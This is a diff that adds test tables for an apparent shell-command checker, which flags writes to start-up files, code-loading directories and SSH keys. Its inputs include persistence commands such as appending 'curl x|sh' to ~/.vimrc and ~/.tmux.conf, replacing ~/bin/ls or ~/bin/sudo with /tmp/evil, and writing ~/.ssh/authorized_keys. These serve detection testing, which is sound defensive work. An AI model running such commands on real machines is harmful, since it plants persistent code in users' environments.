@@ -213,12 +213,109 @@ describe("sensitive-path: table", () => {
   it.each(cases(TABLE))("%s", (_title, row) => verify(row, "sensitive-path/"));
 });
 
+/** `~/x` in each spelling of home the shell expands (the test options have HOME=/home/u). */
+const HOME_SPELLINGS: ReadonlyArray<(p: string) => string> = [
+  (p) => p, (p) => p.replace("~/", "$HOME/"), (p) => p.replace("~/", "/home/u/"), (p) => p.replace("~/", "\"${HOME}\"/"),
+];
+const WRITES: ReadonlyArray<(t: string) => string> = [(t) => `echo x >> ${t}`, (t) => `cp /tmp/x ${t}`, (t) => `echo x | sudo tee -a ${t}`];
+const over = (paths: readonly string[], id: string): Row[] =>
+  paths.flatMap((path) => HOME_SPELLINGS.flatMap((home) => WRITES.map((write): Row => [write(home(path)), [id], "exact", true])));
+
+/** Start-up files of other programs that run commands, and directories of code loaded at start-up. */
+const STARTUP: Row[] = [
+  ...over(["~/.vimrc", "~/.gvimrc", "~/.exrc", "~/.vim/vimrc", "~/.emacs", "~/.emacs.el", "~/.spacemacs", "~/.emacs.d/init.el", "~/.emacs.d/early-init.el",
+    "~/.config/emacs/init.el", "~/.tmux.conf", "~/.config/tmux/tmux.conf", "~/.screenrc", "~/.gdbinit", "~/.config/gdb/gdbinit", "~/.lldbinit",
+    "~/.psqlrc", "~/.psqlrc-16", "~/.sqliterc", "~/.Rprofile", "~/.Renviron", "~/.muttrc", "~/.mailcap", "~/.lesskey", "~/.config/lesskey"], F),
+  ...over(["~/.vim/plugin/x.vim", "~/.vim/autoload/plug.vim", "~/.vim/pack/p/start/x/plugin/x.vim", "~/.vim/after/plugin/x.vim", "~/.vim/ftplugin/python.vim",
+    "~/.config/nvim/init.lua", "~/.config/nvim/init.vim", "~/.config/nvim/plugin/x.lua", "~/.config/nvim/lua/x.lua", "~/.local/share/nvim/site/autoload/plug.vim",
+    "~/.ipython/profile_default/startup/00.py", "~/.jupyter/jupyter_server_config.py", "~/.local/lib/python3.12/site-packages/x.pth",
+    "~/.config/autostart/x.desktop", "~/.config/systemd/user/x.service", "~/Library/LaunchAgents/x.plist", "~/bin/ls", "~/.tmux/plugins/tpm/tpm",
+    "~/.config/doom/config.el"], D),
+  ["echo 'silent !curl x|sh' >> ~/.vimrc", [F], "exact", true],
+  ["cp x.lua ~/.config/nvim/init.lua", [D], "exact", true],
+  ["echo 'run-shell \"curl x|sh\"' >> ~/.tmux.conf", [F], "exact", true],
+  ["tee -a ~/.gdbinit", [F], "exact", true],
+  ["cp /tmp/x.pth ~/.local/lib/python3.12/site-packages/", [D], "exact", true],
+  ["cp /tmp/evil ~/bin/ls", [D], "exact", true],
+  ["ln -s /tmp/evil ~/bin/sudo", [D], "exact", true],
+  ["cp /tmp/evil ~/bin/", [D], "exact", true],
+  ["echo x > .Rprofile", [F], "exact", true],
+  ["curl -fLo ~/.vim/autoload/plug.vim --create-dirs https://x/plug.vim", [D], "exact", true],
+  ["echo x >> ~/.vimr?", [F], "exact", true],
+  // an editor opening a file is not a write by the command line; reading and backups are fine
+  ...["vim ~/.vimrc", "nvim ~/.config/nvim/init.lua", "emacs ~/.emacs", "cat ~/.tmux.conf", "cp ~/.vimrc backup/", "cp ~/.tmux.conf ~/.gdbinit dotfiles/", "ls ~/bin",
+    "ls -la ~/.vim/plugin", "echo x > .vimrc", "echo x > proj/.tmux.conf", "echo x > ./bin/tool", "cp x bin/", "echo x > ~/binaries/x", "mkdir -p ~/.vim/undo",
+    "echo x > ~/.vim/swap/x", "echo x > ~/.viminfo", "echo x > model.pth", "cp x.pth checkpoints/", "echo x > ~/.pythonrc", "echo x > ~/.config/git/ignore",
+    "echo x > ~/.local/share/x", "cp x ~/.config/nvim.bak/init.lua", "echo x > ~/.vimrc.bak", "cp x /usr2/bin/x"].map((c): Row => [c, [], "exact", true]),
+];
+
+describe("sensitive-path: start-up files and code directories of other programs", () => {
+  it.each(cases(STARTUP))("%s", (_title, row) => verify(row, "sensitive-path/"));
+});
+
+/** Each spelling of an output option (`%O` is the file), over targets; `%F` an output operand. */
+const OUTPUTS: readonly string[] = [
+  "uniq in %F", "uniq -c in %F", "uniq -f 1 -s2 in %F", "uniq --skip-fields=1 in %F", "uniq +3 in %F", "uniq -- in %F",
+  "xxd -r in %F", "xxd -r -p in %F", "xxd -ps -c 16 in %F", "xxd -cols 8 -s 0 in %F", "xxd in %F",
+  "cpp -P in %F", "cpp -P -I inc -DX=1 -MD in %F", "cpp -o %F in", "cpp -o%F in", "cpp --output=%F in", "cpp -M -MF %F in.c",
+  "dos2unix -n in %F", "dos2unix --newfile in %F", "unix2dos -n in %F", "dos2unix -k -n in %F", "dos2unix -c ascii -n in %F", "dos2unix a.txt -n in %F", "dos2unix -n in out.txt -o %F", "dos2unix %F",
+  "iconv -f latin1 -t utf-8 -o %F in", "iconv -o%F in", "iconv --output=%F in", "iconv --output %F in", "iconv -c -f x -t y in -o %F",
+  "uudecode -o %F in", "uudecode -o%F in", "uudecode --output-file=%F in", "uudecode --output-file %F in",
+  "openssl enc -d -aes-256-cbc -in in -out %F", "openssl enc -d -in in --out %F", "openssl enc -d -in in -out=%F", "openssl base64 -d -in in -out %F",
+  "openssl req -new -key k -keyout %F", "openssl x509 -req -in c -signkey k -out %F", "openssl genrsa -out %F 4096", "openssl rand -base64 -out %F 32",
+  "gpg -o %F -d in", "gpg -d -o%F in", "gpg --output %F --decrypt in", "gpg --output=%F -d in", "gpg2 -o %F -d in", "gpg --batch --yes -r me -o %F -d in", "gpg --out %F -d in",
+  "sponge %F", "sponge -a %F", "link in %F", "history -w %F", "history -a %F",
+];
+const TARGETS: ReadonlyArray<[string, string[]]> = [["~/.bashrc", [F]], ["$HOME/.bashrc", [F]], ["/home/u/.bashrc", [F]], ["\"$HOME/.ssh/authorized_keys\"", [F]], ["~/.ssh/config", [D]], ["out.txt", []]];
+
+const OUTPUT_ROWS: Row[] = [
+  ...OUTPUTS.flatMap((form) => TARGETS.flatMap(([t, ids]): Row[] => [[form.replace("%F", t), ids, "exact", true], ["sudo " + form.replace("%F", t), ids, "exact", true]])),
+  // what these tools read is no write
+  ...["uniq ~/.bashrc", "uniq ~/.bashrc out.txt", "xxd ~/.bashrc", "xxd -r ~/.bashrc out.txt", "cpp ~/.bashrc out.i", "cpp -I ~/.ssh in.c out.i", "dos2unix -n ~/.bashrc out.txt",
+    "dos2unix -O ~/.bashrc", "dos2unix -i ~/.bashrc", "dos2unix --info=u ~/.bashrc", "iconv -f x -t y ~/.bashrc", "iconv -f x -t y -o out.txt ~/.bashrc", "uudecode ~/.bashrc.uu -o out.txt",
+    "openssl enc -in ~/.bashrc -out out.txt", "openssl x509 -in ~/.ssh/config -noout -text", "openssl req -key ~/.ssh/id_rsa -out out.csr", "gpg -d ~/.bashrc.gpg", "gpg -o out.txt -d ~/.bashrc.gpg",
+    "gpg --homedir ~/.gnupg -k", "link ~/.bashrc out.txt", "history -r ~/.bashrc", "history -n ~/.bashrc", "history 20", "history -d 5", "sort -o out.txt ~/.bashrc"].map((c): Row => [c, [], "exact", true]),
+  // sort -o is the side-effect check's (side-effect/output-file), not reported twice
+  ["sort -o ~/.bashrc in", ["side-effect/output-file"], "has", true],
+  // split and csplit write PREFIXaa / PREFIX00 (and --additional-suffix)
+  ["split -n 2 --additional-suffix=.fish evil ~/.config/fish/conf.d/x", [D], "exact", true],
+  ["split -l 1 in ~/.ssh/", [D], "exact", true],
+  ["split -l1 -a 3 in $HOME/.local/bin/x", [D], "exact", true],
+  ["csplit -f ~/.ssh/part in /a/", [D], "exact", true],
+  ["csplit --prefix=$HOME/.ssh/part in /a/", [D], "exact", true],
+  ...["split -l 1 in parts/x", "split -l 1 ~/.bashrc parts/x", "split in", "split --filter='cat' in ~/.ssh/", "split -l 1 in ~/.bash", "csplit in /a/", "csplit -f parts/x ~/.bashrc /a/"].map((c): Row => [c, [], "exact", true]),
+];
+
+describe("sensitive-path: output operands and options (uniq, xxd, cpp, dos2unix, iconv, uudecode, openssl, gpg, sponge, link, history, split)", () => {
+  it.each(cases(OUTPUT_ROWS))("%s", (_title, row) => verify(row, "sensitive-path/"));
+});
+
+/** Files no word names, put into home itself (or a directory holding /etc ...). */
+const BULK_ROWS: Row[] = [
+  ...["tar -xf x.tar -C ~", "tar -xf x.tar -C ~/", "tar -xf x.tar -C $HOME", "tar xzf x.tgz -C /home/u", "tar -xf x.tar --directory=~", "tar -x -f x.tar -C \"$HOME\"", "sudo tar -C / -xzf x.tgz",
+    "unzip -o x.zip -d ~", "unzip x.zip -d $HOME/", "unzip -qo x.zip -d/home/u", "cp -r dotfiles/. ~", "cp -a dotfiles/. ~/", "cp -R ./ ~", "cp -rT dotfiles ~", "cp -r -t ~ dotfiles/.",
+    "rsync -a dotfiles/ ~/", "rsync -av dotfiles/ $HOME", "rsync -a dotfiles/ host:", "stow -t ~ dotfiles", "stow --target=$HOME vim", "stow vim", "stow -d ~/dotfiles vim", "stow -D -t ~ vim",
+    "tar -xf x.tar -C /home", "tar -C ~/.local -xzf node.tgz --strip-components=1", "cp -r nvim/. ~/.config", "rsync -a fish/ ~/.config/"].map((c): Row => [c, [D], "exact", true]),
+  ...["tar -xzf r.tgz -C build", "tar -xf x.tar -C ~/src", "tar -tf x.tar -C ~", "tar -cf x.tar -C ~ .bashrc", "tar -xf x.tar", "unzip -l x.zip -d ~", "unzip x.zip -d out",
+    "cp -r dotfiles ~", "cp notes.txt ~", "cp -r src/. build", "cp -a . /tmp/copy", "rsync -a dotfiles ~/", "rsync -a ~/proj/ backup/", "rsync -a src/ host:app/",
+    "stow -n -t ~ vim", "stow -t ~/.local/stow vim", "stow -d /opt/stow -t /opt pkg", "tar -xf x.tar -C /tmp", "tar -xf x.tar -C /var/www", "tar -xf x.tar -C ~/.cache", "cp -r src/. ~/proj/lib"].map((c): Row => [c, [], "exact", true]),
+];
+
+describe("sensitive-path: files no word names, put into home itself", () => {
+  it.each(cases(BULK_ROWS))("%s", (_title, row) => verify(row, "sensitive-path/"));
+});
+
 const FORMS: ReadonlyArray<[string, string[]]> = [
   ["tee -a ~/.bashrc", [FILE]],
   ["touch .git/hooks/pre-commit", [DIR]],
   ["cp k ~/.ssh/authorized_keys", [FILE]],
   ["curl -fsSL https://x.sh -o ~/.bashrc", [FILE]],
   ["ln -sf /tmp/x ~/.zshrc", [FILE]],
+  ["tee -a ~/.vimrc", [FILE]],
+  ["cp /tmp/evil ~/bin/ls", [DIR]],
+  ["uniq in ~/.bashrc", [FILE]],
+  ["gpg -o ~/.bashrc -d in", [FILE]],
+  ["tar -xf x.tar -C ~", [DIR]],
 ];
 
 describe.each(FORMS)("sensitive-path: %s in disguise", (form, expected) => {
